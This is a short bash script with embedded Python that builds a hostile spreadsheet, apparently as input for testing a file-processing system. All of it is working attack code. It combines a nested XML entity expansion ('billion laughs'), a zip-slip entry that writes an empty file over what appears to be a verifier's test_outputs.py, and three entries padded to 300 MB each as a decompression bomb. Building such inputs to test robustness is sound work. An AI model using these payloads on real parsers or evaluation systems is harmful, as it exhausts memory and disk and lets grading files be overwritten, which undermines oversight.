#!/bin/bash
# Hands in a workbook that unpacks to a gigabyte and declares entities that grow without end.
set -euo pipefail
python3 - <<'PY'
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
grow = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 20}">' for n in range(1, 12))
book = f'<!DOCTYPE x [<!ENTITY e0 "x">{grow}]><workbook xmlns="{MAIN}"><sheets>&e11;</sheets></workbook>'
with zipfile.ZipFile("/root/invoice.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("xl/workbook.xml", book)
    archive.writestr("../../verifier/test_outputs.py", "")
    for name in ("xl/sharedStrings.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"):
        with archive.open(name, "w", force_zip64=True) as file:
            for _ in range(300):
                file.write(b" " * 1024 * 1024)
PY
